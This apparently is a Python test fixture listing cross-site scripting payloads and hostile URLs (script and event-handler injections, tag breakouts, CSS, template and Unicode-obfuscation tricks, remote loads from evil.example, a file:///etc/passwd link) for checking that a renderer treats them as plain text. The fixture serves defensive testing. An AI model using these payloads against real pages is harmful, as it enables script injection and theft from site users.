"""Texts that would do harm if a page treated them as anything else than text."""

from __future__ import annotations

#: Each tries to run this script, or to request this URL.
RUN = "window.__pwned=1"
AWAY = "https://evil.example/"

TEXTS = [
    # Elements
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script src={AWAY}x.js></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img/src='x'/onerror='{RUN}'>",
    f"<image href=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe><i x='{RUN}'>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<body onload={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<textarea><img title='</textarea><img src=x onerror={RUN}>'>",
    f"<form action={AWAY}><button autofocus onfocus={RUN}>x</button></form>",
    f"<a href='javascript:{RUN}'>click</a>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<base href='{AWAY}'>",
    f"<link rel=stylesheet href='{AWAY}x.css'>",
    # The end of what surrounds them
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' style='position:fixed;inset:0' x='",
    f"` onmouseover={RUN} `",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</iframe><script>{RUN}</script>",
    f"</a></li></ul></main></body></html><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"--><script>{RUN}</script><!--",
    f"--!><img src=x onerror={RUN}>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    # CSS
    f"}} * {{ background: url({AWAY}css) !important; display: none }} x {{",
    f"; background: url('{AWAY}css')",
    f"expression({RUN})",
    f"@import '{AWAY}x.css';",
    # Entities: shown unchanged
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={RUN}&#x3e;",
    f"&quot;&gt;&lt;img src=x onerror={RUN}&gt;",
    f"&NewLine;&colon;&lpar;{RUN}",
    # Templates
    "{{constructor.constructor('" + RUN + "')()}}",
    "${" + RUN + "}",
    "<%= " + RUN + " %>",
    # Confusable characters
    f"\u0000<script>{RUN}</script>",
    f"<scr\u0000ipt>{RUN}</scr\u0000ipt>",
    f"<\u0000img src=x onerror={RUN}>",
    f"\u202e<script>{RUN}</script>\u202c",
    f"\u2066\u202d<img src=x onerror={RUN}>",
    f"\ufeff<script>{RUN}</script>",
    f"\u2028<script>{RUN}</script>\u2029",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"\u00bcscript\u00be{RUN}\u00bc/script\u00be",
    # URLs without markup
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//",
    f"java\tscript:{RUN}",
    f"\u0001javascript:{RUN}",
    f"data:text/html,<script>parent.{RUN}</script>",
    f"vbscript:{RUN}",
    "placard://aaaa/message/close",
]

#: Used as the URL of a picture or a link.
URLS = [
    f"javascript:{RUN}",
    f" javascript:{RUN}",
    f"java\nscript:{RUN}",
    f"JAVASCRIPT:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f"vbscript:{RUN}",
    "file:///etc/passwd",
    "//evil.example/x.png",
    "http://evil.example/x.png",
    "ftp://evil.example/x.png",
    "https://",
    "https:///x.png",
    f'https://a.example/"><script>{RUN}</script>',
    f"https://a.example/' onerror='{RUN}",
    f"https://a.example/x.png) url({AWAY}css",
    "https://a.example/x.png; script-src 'unsafe-inline'",
    f'https://a.example"onerror={RUN}/',
    "https://*/x.png",
    "http://127.0.0.1:1; script-src */x.png",
    "http://[::1]:1/x.png",
    "blob:https://app.example/1",
    "placard://aaaa/message/close",
    "about:blank",
]


def as_shown(text: str) -> str:
    """HTML cannot contain U+0000."""
    return text.replace("\u0000", "\ufffd")
